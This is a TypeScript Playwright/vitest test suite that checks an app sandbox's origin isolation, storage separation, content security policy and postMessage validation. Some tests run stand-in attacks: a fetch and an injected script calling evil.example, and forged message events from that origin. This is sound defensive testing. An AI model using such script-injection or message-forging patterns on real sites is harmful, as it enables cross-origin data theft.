import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame } from 'playwright-core';
import { describe, expect, it, onTestFinished } from 'vitest';
import { freePort } from '../free-port.ts';
import { eventually, hasBrowser, type ShownApp, useAppBrowser } from './app-browser.ts';
import { useAppService } from './app-service.ts';
import { Runner, VIEWS } from './runner/runner.ts';

/** What an app has for storage. */
const STORES = `['localStorage', 'sessionStorage', 'indexedDB'].filter((name) => {
  try { window[name].length ?? window[name].open('x'); return true } catch { return false } })`;

describe.skipIf(!hasBrowser)('an app in a sandbox that all apps share', async () => {
  const port = await freePort();
  const env = { SANDBOX_PORT: String(port), SANDBOX_URL: `http://127.0.0.1:${port}` };
  const apps = useAppService(VIEWS, { env });
  const open = useAppBrowser();

  it('runs with an opaque origin and without any storage [HI-84]', async () => {
    const url = (await apps.appOf('bare', 'ann')).replace('127.0.0.1', 'localhost');
    const shown = await open(url, { as: 'ann' });
    const runner = await Runner.in(shown);
    await runner.initialize();
    expect(await runner.heard('ui/notifications/tool-result')).toMatchObject({ structuredContent: {} });
    expect(await runner.run('origin')).toBe('null');
    expect(await runner.run(STORES)).toEqual([]);
    expect(
      await runner.run('(() => { try { return parent.document.title } catch (error) { return error.name } })()'),
    ).toBe('SecurityError');
  });
});

describe.skipIf(!hasBrowser)('an app in a sandbox of its own', () => {
  const apps = useAppService(VIEWS);
  const open = useAppBrowser();

  it('has an origin of its own, with a storage that no other app sees, nor the same one of another person [HI-84]', async () => {
    const [link, links] = [
      await apps.appOf('bare', 'ann'),
      [await apps.appOf('links', 'ann'), await apps.appOf('bare', 'bo')],
    ];
    const shown = await open(link, { as: 'ann' });
    const { page } = shown;
    const origin = await (await Runner.in(shown)).run<string>('origin');
    // Its place as a page of its own: browsers keep the storage of a frame apart by the page around it as well.
    const kept = async (place: string) => {
      await page.goto(await placeOf(place));
      return page.evaluate<[string, string | null]>("[origin, localStorage.getItem('secret')]");
    };
    expect(await kept(link)).toEqual([origin, null]);
    await page.evaluate("localStorage.setItem('secret', 'of ann')");
    for (const other of links) {
      const [otherOrigin, secret] = await kept(other);
      expect(otherOrigin).not.toBe(origin);
      expect(secret).toBeNull();
    }
    expect(await kept(link)).toEqual([origin, 'of ann']);
  });

  async function placeOf(link: string): Promise<string> {
    const answer = await fetch(link.replace('/apps/', '/v1/apps/'));
    return ((await answer.json()) as { sandbox_url: string }).sandbox_url;
  }

  it('gets nothing by a declared origin that smuggles a directive [HI-72]', async () => {
    const shown = await open(await apps.appOf('declared', 'ann'), { as: 'ann' });
    await shown.page.getByRole('button', { name: 'Allow', exact: true }).click();
    await shown.context.route('https://evil.example/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'window.hacked = 1' }),
    );
    const runner = await Runner.in(shown);
    await runner.run(`
      fetch('https://evil.example/data').catch(() => {});
      document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })); 0`);
    await eventually(() => runner.run('probe.violations')).toEqual(
      expect.arrayContaining(['https://evil.example/data', 'https://evil.example/x.js']),
    );
    expect(await runner.run('window.hacked')).toBeUndefined();
  });

  it('has the policy that it declares, which nobody can change by its address, and no other site shows it [HI-80]', async () => {
    const link = await apps.appOf('declared', 'ann');
    const shown = await open(link, { as: 'ann' });
    await shown.page.getByRole('button', { name: 'Allow', exact: true }).click();
    await Runner.in(shown);
    expect(shown.sandboxHeaders()['content-security-policy']).toContain('connect-src https://allowed.example;');
    const bare = await open(await apps.appOf('bare', 'ann'), { as: 'ann' });
    await Runner.in(bare);
    expect(bare.sandboxHeaders()['content-security-policy']).toContain("connect-src 'none';");

    const address = (await shown.page.locator('.stage iframe').getAttribute('src')) ?? '';
    const answer = await shown.page.goto(`${address}?csp=${encodeURIComponent('connect-src *')}`);
    expect(answer?.status()).toBe(404);
    expect(answer?.headers()['content-security-policy']).toBe("default-src 'none'");

    // A site on this machine: one of elsewhere is kept from it by browsers anyway.
    const site = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<iframe src="${address}"></iframe>`);
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void site.close().closeAllConnections());
    await shown.page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
    await eventually(() => shown.page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  });
});

describe.skipIf(!hasBrowser)('messages on the page of an app', () => {
  const apps = useAppService(VIEWS);
  const open = useAppBrowser();

  async function running(): Promise<ShownApp & { runner: Runner; between: Frame }> {
    const shown = await open(await apps.appOf('bare', 'ann'), { as: 'ann' });
    const runner = await Runner.in(shown);
    await runner.initialize();
    return { ...shown, runner, between: runner.frame.parentFrame() as Frame };
  }

  const logged = (data: string) =>
    JSON.stringify({ jsonrpc: '2.0', method: 'notifications/message', params: { level: 'info', data } });

  /** What the page lists as said by the app, once it has said one thing more. */
  async function heardBy({ page, runner }: ShownApp & { runner: Runner }): Promise<string[]> {
    await runner.notify('notifications/message', { level: 'info', data: 'in order' });
    const lines = () => page.locator('.notes').last().locator('li').allTextContents();
    await eventually(lines).toContain('info: in order');
    return lines();
  }

  it('count from the frame of the sandbox alone [HI-74]', async () => {
    const shown = await running();
    // Another window, and one that is nested within the app.
    await shown.page.evaluate(`postMessage(${logged('from the page itself')}, '*')`);
    await shown.runner.run(`void top.postMessage(${logged('from the app itself')}, '*')`);
    await shown.runner.run(`new Promise((resolve) => {
      const nested = document.createElement('iframe');
      nested.srcdoc = '<script>parent.parent.postMessage(${logged('to the sandbox').replaceAll("'", "\\'")}, "*");top.postMessage(${logged('to the page')}, "*")<\\/script>';
      nested.onload = () => resolve(0);
      document.body.append(nested);
    })`);
    expect(await heardBy(shown)).toEqual(['info: in order']);
  });

  /** Has a window hear a message as if it came from there. */
  const forge = (frame: Pick<Frame, 'evaluate'>, message: string, from: { source: string; origin: string }) =>
    frame.evaluate(
      `void dispatchEvent(new MessageEvent('message', { data: ${message}, source: ${from.source}, origin: ${JSON.stringify(from.origin)} }))`,
    );

  it('count on the page with the window and the origin of the sandbox, not with one of them [HI-74]', async () => {
    const shown = await running();
    const origin = await shown.runner.run<string>('origin');
    const frame = "document.querySelector('.stage iframe').contentWindow";
    await forge(shown.page, logged('another origin'), { source: frame, origin: 'https://evil.example' });
    await forge(shown.page, logged('an opaque origin'), { source: frame, origin: 'null' });
    await forge(shown.page, logged('another window'), { source: 'window', origin });
    await forge(shown.page, logged('no window'), { source: 'null', origin });
    await forge(shown.page, logged('both'), { source: frame, origin });
    expect(await heardBy(shown)).toEqual(['info: both', 'info: in order']);
  });

  it('go through the sandbox from the app and from our page alone, each with its origin [HI-74]', async () => {
    const shown = await running();
    const { between, runner } = shown;
    const origin = await runner.run<string>('origin');
    const inner = "document.querySelector('iframe').contentWindow";
    await forge(between, logged('app, another origin'), { source: inner, origin: 'https://evil.example' });
    await forge(between, logged('another window, its origin'), { source: 'window', origin });
    await forge(between, logged('the app'), { source: inner, origin });
    expect(await heardBy(shown)).toEqual(['info: the app', 'info: in order']);

    const own = new URL(shown.page.url()).origin;
    const told = (method: string) => JSON.stringify({ jsonrpc: '2.0', method });
    await forge(between, told('forged/origin'), { source: 'parent', origin: 'https://evil.example' });
    await forge(between, told('forged/window'), { source: 'window', origin: own });
    await forge(between, told('from/us'), { source: 'parent', origin: own });
    await eventually(() => runner.methods()).toContain('from/us');
    expect((await runner.methods()).filter((method) => method.startsWith('forged/'))).toEqual([]);
  });
});
